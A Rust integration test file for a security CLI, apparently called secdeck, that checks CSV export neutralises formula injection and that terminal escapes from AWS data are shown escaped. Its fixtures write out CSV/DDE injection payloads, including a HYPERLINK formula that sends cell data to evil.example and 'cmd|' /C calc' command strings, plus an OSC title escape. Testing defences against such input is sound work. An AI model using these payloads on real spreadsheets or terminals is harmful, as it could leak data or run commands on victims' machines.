//! Hostile text from AWS and files, through the headless commands: CSV cells a spreadsheet
//! would run are neutralised in every column; on a terminal (a real pty) escape sequences
//! from a finding or an ip-ranges `syncToken` are shown as `⟨U+001B⟩`, while files and
//! pipes get the bytes as AWS sent them.

mod common;

use std::path::Path;
use std::process::{Command, Output};

use common::{demo_export_args, file_in, secdeck_command, waf_sync_args};

const ESC_TITLE: &str = "\u{1b}]0;pwned\u{7}";
const SHOWN_TITLE: &str = "⟨U+001B⟩]0;pwned⟨U+0007⟩";

/// Runs secdeck with its stdout (and stderr) on a pseudo-terminal, through Python's `pty`
/// (Python 3 is already needed by the conformance suite). What the terminal received.
fn on_a_terminal<S: AsRef<std::ffi::OsStr>>(dir: &Path, args: &[S]) -> String {
    const RUN: &str = r#"
import os, pty, sys
pid, fd = pty.fork()
if pid == 0:
    os.execv(sys.argv[1], sys.argv[1:])
out = b""
while True:
    try:
        chunk = os.read(fd, 65536)
    except OSError:
        break
    if not chunk:
        break
    out += chunk
_, status = os.waitpid(pid, 0)
sys.stdout.buffer.write(out)
sys.exit(os.waitstatus_to_exitcode(status))
"#;
    let cmd = secdeck_command(dir);
    let program = cmd.get_program().to_os_string();
    let out = Command::new("python3")
        .arg("-c")
        .arg(RUN)
        .arg(program)
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .envs(
            cmd.get_envs()
                .filter_map(|(k, v)| v.map(|v| (k.to_os_string(), v.to_os_string()))),
        )
        .env_remove("AWS_PROFILE")
        .output()
        .expect("python3 runs the pty");
    assert!(
        out.status.code().is_some(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn run<S: AsRef<std::ffi::OsStr>>(dir: &Path, args: &[S]) -> Output {
    secdeck_command(dir)
        .args(args)
        .output()
        .expect("run secdeck")
}

/// A seed directory with one finding whose Title, ResourceId and GeneratorId are hostile.
fn hostile_seed(dir: &Path) -> std::path::PathBuf {
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/asff/securityhub-fsbp-rds-2-public-instance.json");
    let mut f: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(fixture).unwrap()).unwrap();
    f["Title"] = format!("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") {ESC_TITLE}").into();
    f["GeneratorId"] = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    f["Resources"][0]["Id"] = "-2+3+cmd|' /C calc'!A0".into();
    let seed = dir.join("seed");
    std::fs::create_dir_all(&seed).unwrap();
    std::fs::write(seed.join("hostile.json"), f.to_string()).unwrap();
    seed
}

#[test]
fn csv_export_neutralises_formulas_in_every_column_and_keeps_raw_bytes_in_files() {
    let dir = tempfile::tempdir().unwrap();
    let seed = hostile_seed(dir.path());
    let csv = dir.path().join("out.csv");
    let out = run(
        dir.path(),
        &demo_export_args(
            &seed,
            &["--format", "csv", "--output", csv.to_str().unwrap()],
        ),
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = std::fs::read_to_string(&csv).unwrap();
    let row = text.lines().nth(1).expect("one finding");
    for cell in [
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\") \u{1b}]0;pwned\u{7}\"",
        "\"'@SUM(1+1)*cmd|' /C calc'!A0\"",
        "\"'-2+3+cmd|' /C calc'!A0\"",
    ] {
        assert!(row.contains(cell), "{cell:?} in {row:?}");
    }
    // A pipe also gets the bytes as they are.
    let out = run(dir.path(), &demo_export_args(&seed, &["--format", "csv"]));
    let piped = String::from_utf8_lossy(&out.stdout);
    assert!(piped.contains(ESC_TITLE), "{piped:?}");
}

#[test]
fn csv_export_to_a_terminal_shows_escapes_instead_of_running_them() {
    let dir = tempfile::tempdir().unwrap();
    let seed = hostile_seed(dir.path());
    let screen = on_a_terminal(dir.path(), &demo_export_args(&seed, &["--format", "csv"]));
    assert!(screen.contains(SHOWN_TITLE), "{screen:?}");
    assert!(
        !screen.contains("\u{1b}]"),
        "no OSC reaches the terminal: {screen:?}"
    );
    // JSONL to a terminal: the JSON stays JSON, escapes stay escaped.
    let screen = on_a_terminal(dir.path(), &demo_export_args(&seed, &[]));
    assert!(screen.contains("\\u001b]0;pwned"), "{screen:?}");
    assert!(!screen.contains("\u{1b}]"), "{screen:?}");
}

/// An ip-ranges.json whose syncToken carries a terminal-title escape.
fn hostile_ranges(dir: &Path) -> std::path::PathBuf {
    let path = dir.join("ip-ranges.json");
    let doc = serde_json::json!({
        "syncToken": format!("1785031025{ESC_TITLE}\u{202E}"),
        "createDate": "2026-08-22-10-00-00",
        "prefixes": [{
            "ip_prefix": "203.0.113.0/24", "region": "GLOBAL",
            "service": "CLOUDFRONT", "network_border_group": "GLOBAL"
        }],
        "ipv6_prefixes": []
    });
    std::fs::write(&path, doc.to_string()).unwrap();
    path
}

#[test]
fn waf_sync_refuses_a_hostile_sync_token_and_names_it_without_running_its_escapes() {
    let dir = tempfile::tempdir().unwrap();
    let ranges = hostile_ranges(dir.path());
    let args = waf_sync_args(
        "hostile-v4",
        "REGIONAL",
        ranges.to_str().unwrap(),
        &["--demo", "--services", "CLOUDFRONT", "--dry-run"],
    );
    // The token would be recorded in the set's description, so it is refused at once
    // (fuzzing found tokens WAF refuses or that read back as another token).
    let screen = on_a_terminal(dir.path(), &args);
    assert!(
        screen.contains("syncToken") && screen.contains("cannot be recorded in a WAF description"),
        "{screen:?}"
    );
    assert!(!screen.contains('\u{1b}'), "{screen:?}");
    assert!(!screen.contains('\u{202E}'), "{screen:?}");

    let out = run(dir.path(), &args);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!err.contains('\u{1b}'), "{err:?}");
    assert!(out.stdout.is_empty(), "nothing planned");
}

#[test]
fn waf_sync_refuses_a_prefix_with_host_bits_naming_the_network() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("ip-ranges.json");
    let doc = serde_json::json!({
        "syncToken": "1", "createDate": "2026-08-22-10-00-00",
        "prefixes": [
            {"ip_prefix": "203.0.113.0/24", "region": "GLOBAL", "service": "CLOUDFRONT", "network_border_group": "GLOBAL"},
            {"ip_prefix": "10.0.0.1/24", "region": "GLOBAL", "service": "CLOUDFRONT", "network_border_group": "GLOBAL"}
        ],
        "ipv6_prefixes": []
    });
    std::fs::write(&path, doc.to_string()).unwrap();
    let args = waf_sync_args(
        "host-bits-v4",
        "REGIONAL",
        path.to_str().unwrap(),
        &["--demo", "--services", "CLOUDFRONT"],
    );
    let out = run(dir.path(), &args);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("ip-ranges.json: prefixes[1] (ip_prefix \"10.0.0.1/24\"): 10.0.0.1/24 has host bits set; did you mean 10.0.0.0/24 or 10.0.0.1/32?"),
        "{err}"
    );
    assert!(out.stdout.is_empty(), "nothing planned or applied");
}

/// A config file's mistake is reported quoting the file: a key spelled with escapes is named
/// with them shown (`⟨U+001B⟩`), never sent to the terminal.
#[test]
fn config_warnings_show_the_escapes_a_key_quotes() {
    let dir = tempfile::tempdir().unwrap();
    let config = file_in(
        dir.path(),
        "config.toml",
        "read_only = true\n\"\\u001b]0;pwned\\u0007\\u202egnp\" = 1\n",
    );
    let output = dir.path().join("out.jsonl");
    let out = run(
        dir.path(),
        &[
            "export",
            "findings",
            "--demo",
            "--config",
            config.to_str().unwrap(),
            "--output",
            output.to_str().unwrap(),
        ],
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("unknown key `⟨U+001B⟩]0;pwned⟨U+0007⟩⟨U+202E⟩gnp`"),
        "{err}"
    );
    assert!(!err.contains(['\u{1b}', '\u{7}', '\u{202E}']), "{err:?}");
}
